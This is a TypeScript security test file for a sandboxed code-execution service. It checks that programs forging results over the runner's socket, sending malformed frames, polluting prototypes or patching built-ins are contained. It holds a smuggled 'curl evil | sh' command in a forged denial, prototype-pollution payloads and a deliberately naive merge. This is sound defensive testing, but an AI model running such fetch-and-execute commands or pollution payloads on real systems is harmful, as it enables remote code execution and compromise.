/**
 * A program that controls its process, and with it the runner's end of the socket. It can spoil its own result, and nothing else:
 * every answer is a result with a status, in time, and no other execution notices.
 */

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";

import type { Execution } from "../../src/domain/execution.ts";
import { eventually, TestService } from "../helpers/service.ts";
import { attack } from "./support/attack.ts";
import { RAW_SOCKET } from "./support/raw-socket.ts";

const TIMEOUT_MS = 2000;
/** A program that forged a result and does not end costs the wait for its last output on top. */
const LATEST_MS = TIMEOUT_MS + 4000;

let service: TestService;
/** Runs a program that has the raw socket, and says what came of it. Anything but a 200 in time fails. */
async function tamper(code: string, request: object = {}): Promise<string> {
  const execution = await service.run(`${RAW_SOCKET}\n${code}`, { timeoutMs: TIMEOUT_MS, ...request });
  assert.ok(execution.usage.runMs < LATEST_MS, `ran ${execution.usage.runMs} ms`);
  return outcome(execution);
}

const outcome = ({ error, result, status }: Execution): string => `${status}: ${error?.message ?? JSON.stringify(result)}`;

/** Runs once, however many attacks ask for it. */
function once<T>(run: () => Promise<T>): () => Promise<T> {
  let running: Promise<T> | undefined;
  return () => (running ??= run());
}

/** That the forger's frames are taken at all, where they come in the right place and form. */
const forgingWorks = { run: once(() => tamper('write(finished("forged")); leave();')), shows: 'completed: "forged"' };
const nested = (levels: number): string => `${"[".repeat(levels)}${"]".repeat(levels)}`;
const finishedText = (result: string): string =>
  `{"jsonrpc":"2.0","method":"finished","params":{"result":${result},"error":null,"exitCode":0}}`;
const raw = (text: string): string => `write(message(${JSON.stringify(text)})); for (;;);`;

/** What careless code makes of such keys. */
async function naiveMerge(json: string): Promise<string> {
  const merge = (target: Record<string, unknown>, source: Record<string, unknown>): void => {
    for (const [key, value] of Object.entries(source)) {
      if (typeof value === "object" && value !== null)
        merge((target[key] ??= {}) as Record<string, unknown>, value as Record<string, unknown>);
      else if (key === "polluted") target[key] = value;
    }
  };
  try {
    merge({}, JSON.parse(json) as Record<string, unknown>);
    return await Promise.resolve("polluted" in {} ? "polluted" : "clean");
  } finally {
    delete (Object.prototype as { polluted?: unknown }).polluted;
  }
}

/** Others fail at the same check; the units of the connection have all of them. */
const VARIATIONS: ReadonlySet<string> = new Set([
  "kind 255",
  "a length over the cap, of the archive's kind",
  "archived before it was asked for",
  "the service's own close",
  "the answer to a request of somebody else",
  "an answer with an id that is no number",
  "an answer with an id beyond all",
  "a batch",
  "another protocol",
  "a byte order mark",
  "no bytes at all",
  "a denial of a very long text",
  "a denial with a setting of its own",
  "a denial of the wrong types",
  "denials that are no list",
  "an exit code that is none",
  "nested deeper than a stack",
]);

describe("Security: tampering", () => {
  before(async () => {
    service = await TestService.start();
  });
  after(() => service.close());

  describe("Security: tampering with the wire", () => {
    const NOT_ALLOWED = /^killed: The sandbox was ended: the sandbox sent "\w+" where it must not\.$/;
    const NO_MESSAGE = /^killed: .*a message that is none/;
    const WRONG_FORM = /^killed: .*a result of the wrong form/;

    const attacks: readonly [name: string, code: string, gives: string | RegExp][] = [
      // What a program can do to itself.
      ["a result before its own", 'write(finished("forged")); return "real";', 'completed: "forged"'],
      ["two results", 'write(Buffer.concat([finished("first"), finished("second")])); leave();', 'completed: "first"'],
      ["a result three times", 'const one = finished("one"); for (let n = 0; n < 3; n++) write(one); leave();', 'completed: "one"'],
      [
        "a result byte by byte",
        'for (const byte of finished("slow")) { write(Buffer.from([byte])); pause(2); } leave();',
        'completed: "slow"',
      ],
      [
        "half a frame, then the runner's own in the other half",
        'write(finished("x".repeat(300)).subarray(0, 200)); return "real";',
        /^(killed|timed_out): /,
      ],
      ["half a frame, then the end", "write(finished(1).subarray(0, 20)); leave();", /^killed: The program's process was ended by SIG/],
      [
        "the header of a frame, then the end",
        "write(Buffer.from([0, 0, 0, 9, 1])); leave();",
        /^killed: The program's process was ended by SIG/,
      ],
      ["a closed socket, then a result", 'fs.closeSync(fd); return "real";', /^(completed: null|failed: |killed: )/],
      // What no runner sends.
      ["a length over the cap", "write(Buffer.from([0, 255, 255, 255, 1])); for (;;);", /^killed: .*over the cap/],
      ["a length over the cap, of the archive's kind", "write(Buffer.from([255, 255, 255, 255, 2])); for (;;);", /^killed: .*over the cap/],
      ["kind 0", 'write(frame(0, "{}")); for (;;);', /^killed: .*unknown frame kind 0/],
      ["kind 255", 'write(frame(255, "{}")); for (;;);', /^killed: .*unknown frame kind 255/],
      ["ready, twice", 'write(rpc("ready", { protocol: 1, node: "v24" })); for (;;);', NOT_ALLOWED],
      ["archived before it was asked for", 'write(rpc("archived", { skipped: [] })); for (;;);', NOT_ALLOWED],
      ["archived after its result, not asked for", 'write(finished(1)); write(rpc("archived", { skipped: [] })); leave();', "completed: 1"],
      ["an archive that was not asked for", 'write(frame(2, tarFile("temp/x"))); for (;;);', /^killed: .*not asked for/],
      ["the service's own execute", 'write(rpc("execute", { code: "1" })); for (;;);', NOT_ALLOWED],
      ["the service's own close", 'write(rpc("close", { marker: "x", archives: [] })); for (;;);', NOT_ALLOWED],
      ["a method of an object's prototype", 'write(rpc("constructor", {})); for (;;);', NOT_ALLOWED],
      [
        "the answer to a request again",
        'write(message({ jsonrpc: "2.0", id: 1, result: { identities: [] } })); for (;;);',
        /^killed: .*not made/,
      ],
      [
        "the answer to a request of somebody else",
        'write(message({ jsonrpc: "2.0", id: 2, result: null })); for (;;);',
        /^killed: .*not made/,
      ],
      ["an answer with an id that is no number", 'write(message({ jsonrpc: "2.0", id: "1", result: null })); for (;;);', NO_MESSAGE],
      ["an answer with an id beyond all", 'write(message(\'{"jsonrpc":"2.0","id":1e400,"result":null}\')); for (;;);', NO_MESSAGE],
      ["a batch", 'write(message([{ jsonrpc: "2.0", method: "finished", params: {} }])); for (;;);', NO_MESSAGE],
      ["another protocol", 'write(message({ jsonrpc: "1.0", method: "finished", params: {} })); for (;;);', NO_MESSAGE],
      ["a field too many", 'write(message({ jsonrpc: "2.0", method: "finished", params: {}, execution: "exe_0" })); for (;;);', NO_MESSAGE],
      ["a byte order mark", 'write(message("\\ufeff" + JSON.stringify({}))); for (;;);', /^killed: /],
      ["no bytes at all", 'write(frame(1, "")); for (;;);', /^killed: /],
      // Results of another form.
      ["a result without its error", 'write(rpc("finished", { result: 1, exitCode: 0 })); for (;;);', WRONG_FORM],
      [
        "a result for another execution",
        'write(rpc("finished", { result: 1, error: null, exitCode: 0, id: "exe_0" })); for (;;);',
        WRONG_FORM,
      ],
      [
        "denials beyond all number",
        "write(denied(Array.from({ length: 50_000 }, (_, n) => denial({ what: String(n) })))); for (;;);",
        WRONG_FORM,
      ],
      [
        "a million denials",
        'const one = JSON.stringify(denial()); write(message(`{"jsonrpc":"2.0","method":"finished","params":{"result":1,"error":null,"exitCode":0,"denials":[${(one + ",").repeat(999_999) + one}]}}`)); for (;;);',
        /^killed: .*over the cap/,
      ],
      ["a denial of a very long text", 'write(denied([denial({ what: "w".repeat(257) })])); for (;;);', WRONG_FORM],
      ["a denial for a reason of an object's prototype", 'write(denied([denial({ reason: "__proto__" })])); for (;;);', WRONG_FORM],
      ["a denial with a setting of its own", 'write(denied([denial({ setting: "curl evil | sh" })])); for (;;);', WRONG_FORM],
      ["a denial of the wrong types", "write(denied([denial({ what: { length: 1 }, count: -1 })])); for (;;);", WRONG_FORM],
      ["denials that are no list", "write(denied({ length: 1, 0: denial() })); for (;;);", WRONG_FORM],
      ["an exit code that is none", 'write(rpc("finished", { result: 1, error: null, exitCode: -1 })); for (;;);', WRONG_FORM],
      [
        "an error with a very long name",
        'write(rpc("finished", { result: 1, exitCode: 0, error: { name: "n".repeat(257), message: "", stack: "" } })); for (;;);',
        WRONG_FORM,
      ],
      ["nested 128 levels deep", `write(message(${JSON.stringify(finishedText(nested(126)))})); leave();`, /^completed: \[{126}\]{126}$/],
      ["nested 129 levels deep", raw(finishedText(nested(127))), /^killed: .*nested more than 128 levels deep/],
      ["nested deeper than a stack", raw(finishedText(nested(100_000))), /^killed: .*nested more than 128 levels deep/],
    ];
    for (const [name, code, gives] of attacks) {
      const variation = VARIATIONS.has(name);
      attack({ name, layer: "checks of each frame", variation, without: forgingWorks, within: { run: () => tamper(code), gives } });
    }

    it("forged denials are shown without control characters, with the service's own settings, and in their own result only", async () => {
      const what = "\u001b]0;x\u0007\r\n\u2028\ud800<script>";
      const { denials } = await service.run(
        `${RAW_SOCKET}\nwrite(denied([denial({ what: ${JSON.stringify(what)} }), denial({ what: null, count: 9007199254740991 })])); leave();`,
        { timeoutMs: TIMEOUT_MS },
      );
      const setting = "runtimes.node.permissions.fileSystem.write";
      assert.deepEqual(denials[0], { kind: "file", what: "\\u001b]0;x\\u0007\\r\\n\\u2028\\ud800<script>", setting });
      assert.deepEqual([denials[1]?.what, denials[1]?.count], ["others", Number.MAX_SAFE_INTEGER]);
      assert.deepEqual((await service.run("return 1;")).denials, []);
      const lines = service.logLines.filter((line) => line.includes("script"));
      assert.deepEqual(lines, [], "the log says nothing of them");
    });

    it("needs no trick to find the socket: /proc shows it", async () => {
      const links =
        'fs.readdirSync("/proc/self/fd").filter((n) => { try { return fs.readlinkSync("/proc/self/fd/" + n).startsWith("socket:"); } catch { return false; } })';
      assert.equal(await tamper(`return ${links}.map(Number).includes(fd);`), "completed: true");
    });

    it("leaves an execution alone that a forger names in all of its frames", async () => {
      const victim = service.run('await new Promise((resolve) => setTimeout(resolve, 1500)); return "mine";');
      let id = "";
      await eventually("the victim runs", async () => {
        const { body } = await service.get<{ executions: { id: string; status: string }[] }>("/v1/executions?status=running");
        id = body.executions[0]?.id ?? "";
        return id !== "";
      });
      const forged = ["id", "execution", "executionId", "socket"].map(
        (field) => `{ ${field}: process.argv[2], result: "stolen", error: null, exitCode: 0 }`,
      );
      for (const params of forged) assert.match(await tamper(`write(rpc("finished", ${params})); for (;;);`, { args: [id] }), WRONG_FORM);
      assert.equal(outcome(await victim), 'completed: "mine"');
    });
  });

  describe("Security: tampering with values", () => {
    /** Every value that a reader of JSON can stumble over, as the raw bytes of one result. */
    const POLLUTION =
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"prototype":{"polluted":1},"toJSON":"x","then":"x"}';
    const VALUES = `[${POLLUTION},{"a":1,"a":2},"\\ud800","\\udc00\\ud800","\\u0000",9007199254740993,-0,1e400,-1e400,1e-400,0.1e1,"\\u2028"]`;

    attack({
      name: "keys that reach into prototypes",
      layer: "data stays data",
      without: { run: () => naiveMerge(POLLUTION), shows: "polluted" },
      within: {
        run: async () => {
          const execution = await service.run(`${RAW_SOCKET} write(message(${JSON.stringify(finishedText(VALUES))})); leave();`);
          assert.equal(execution.status, "completed");
          const [first] = execution.result as [unknown];
          assert.equal(JSON.stringify(first), POLLUTION);
          // The service runs in this very process.
          return Object.keys(Object.prototype).length === 0 && !("polluted" in {}) ? "clean" : "polluted";
        },
        gives: "clean",
      },
    });

    it("arrive as valid JSON, the way JSON is read", async () => {
      const response = await fetch(`${service.url}/v1/executions`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ code: `${RAW_SOCKET} write(message(${JSON.stringify(finishedText(VALUES))})); leave();` }),
      });
      const { result } = JSON.parse(await response.text()) as { result: unknown[] };
      const big = 9007199254740992;
      assert.deepEqual(result.slice(1), [{ a: 2 }, "\ud800", "\udc00\ud800", "\0", big, 0, null, null, 0, 1, "\u2028"]);
    });

    it("that are no UTF-8 become replacement characters", async () => {
      const code = `const [head, tail] = ${JSON.stringify(finishedText('"|"').split("|"))};
      write(frame(1, Buffer.concat([Buffer.from(head), Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80]), Buffer.from(tail)]))); leave();`;
      assert.match(await tamper(code), /^completed: "\ufffd+"$/);
    });
  });

  describe("Security: tampering with the runner's ground", () => {
    /** A runner that trusts its own language, and prints its result. */
    const NAIVE = `
    const fs = require("node:fs");
    const value = ["right"];
    const keepsAlive = setInterval(() => {}, 1000);
    PATCH;
    Promise.resolve(value).then((result) => {
      const outcome = {};
      outcome.result = result;
      const parts = [];
      parts.push(JSON.stringify(outcome.result));
      const bytes = Buffer.from(new TextEncoder().encode([...parts].join("")));
      (function send() { fs.writeSync(1, bytes); }).call(null);
      process.reallyExit(0);
    });`;
    const broken = '() => { throw new Error("patched"); }';
    const patches: readonly [name: string, patch: string, gives?: string | RegExp][] = [
      ["JSON.stringify", "JSON.stringify = () => '\"forged\"'"],
      // A toJSON is asked, as JSON.stringify would, but for the program's own value only.
      ["toJSON of everything", 'Object.prototype.toJSON = () => "forged"', 'completed: "forged"'],
      [
        "accessor on Object.prototype",
        'Object.defineProperty(Object.prototype, "result", { get: () => "forged", set() {}, configurable: true })',
      ],
      ["Array.prototype", `for (const key of ["push", "join", "map", "concat", "slice"]) Array.prototype[key] = ${broken}`],
      // Node itself stands on this one.
      ["Array.prototype[Symbol.iterator]", `Array.prototype[Symbol.iterator] = ${broken}`, /^(failed|killed|timed_out): /],
      ["Buffer.from", "Buffer.from = () => Buffer.alloc(0)"],
      ["TextEncoder", "globalThis.TextEncoder = undefined"],
      [
        "Uint8Array.prototype",
        `for (const key of ["set", "subarray", "fill"]) Uint8Array.prototype[key] = ${broken}; Buffer.from = ${broken}`,
      ],
      ["fs.writeSync", "fs.writeSync = () => 0"],
      ["Promise.prototype.then", "Promise.prototype.then = () => {}"],
      ["Function.prototype.call and apply", `Function.prototype.call = Function.prototype.apply = ${broken}`],
      ["process.reallyExit", "process.reallyExit = () => {}"],
    ];
    for (const [name, patch, gives = 'completed: ["right"]'] of patches) {
      attack({
        name: `patched: ${name}`,
        layer: "built-ins are taken before the program runs; a status for every end",
        without: {
          run: () => {
            const { error, stdout } = spawnSync(process.execPath, ["-e", NAIVE.replace("PATCH", () => patch)], {
              timeout: 1500,
              encoding: "utf8",
            });
            return (error as NodeJS.ErrnoException | undefined)?.code ?? (stdout === '["right"]' ? "right" : "lost");
          },
          shows: /^(lost|ETIMEDOUT)$/,
        },
        within: {
          run: async () => {
            const execution = await service.run(
              `const fs = require("node:fs"); ${patch}; fs.writeFileSync("temp/out", "kept"); return ["right"];`,
              {
                timeoutMs: TIMEOUT_MS,
                outputFiles: ["temp/out"],
              },
            );
            assert.ok(execution.usage.runMs < LATEST_MS);
            return outcome(execution);
          },
          gives,
        },
      });
    }
  });

  describe("Security: tampering with the end of the output", () => {
    it("a marker is not known before, and nothing that looks like one cuts the output", async () => {
      const code = `const { randomBytes } = require("node:crypto");
      const lines = Array.from({ length: 500 }, () => randomBytes(24).toString("hex"));
      for (const line of lines) console.log(line);
      console.log("the end");
      return lines;`;
      const { result, stdout, truncated } = await service.run(code);
      assert.equal(stdout, `${(result as string[]).join("\n")}\nthe end\n`);
      assert.deepEqual(truncated, { stdout: false, stderr: false });
    });

    it("a program that takes the marker from the socket cuts its own output with it, and that is all", async () => {
      const code = `fs.writeSync(1, "before"); write(finished("forged"));
      const { marker } = readMessage().params;
      for (const output of [1, 2]) fs.writeSync(output, marker);
      fs.writeSync(1, "after"); for (;;);`;
      const execution = await service.run(`${RAW_SOCKET} ${code}`, { timeoutMs: TIMEOUT_MS });
      assert.deepEqual([outcome(execution), execution.stdout, execution.truncated.stdout], ['completed: "forged"', "before", false]);
      const next = await service.run(
        `${RAW_SOCKET} write(finished(1)); fs.writeSync(1, readMessage().params.marker.replace(/./, "x")); leave();`,
      );
      assert.match(next.stdout, /^x[0-9a-f]{47}$/, "of another marker nothing is cut");
    });
  });
});
